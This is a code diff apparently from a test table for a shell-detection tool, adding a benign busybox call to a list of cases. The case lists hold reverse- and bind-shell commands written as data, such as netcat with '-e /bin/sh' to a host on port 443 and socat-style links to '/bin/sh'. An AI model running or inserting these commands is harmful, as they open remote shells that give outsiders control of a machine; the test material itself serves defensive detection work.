@@ -36,7 +36,10 @@ CASES = {
             'called("nc", "-e", "/bin/sh", "host", "443")',
             'called("cat2", "TCP4:host:443", "EXEC:/bin/sh,pty")',
         ],
-        ['called("nc", "-l", "443"); called("cat2", "STDIO", "EXEC:/bin/sh,pty")'],
+        [
+            'called("nc", "-l", "443"); called("cat2", "STDIO", "EXEC:/bin/sh,pty")',
+            'called("busybox", "sh", "-c", "true")',
+        ],
     ),
     "shells/shell_for_caller": Case(
         [BOUND.replace("ADDRESS", "OUT")],
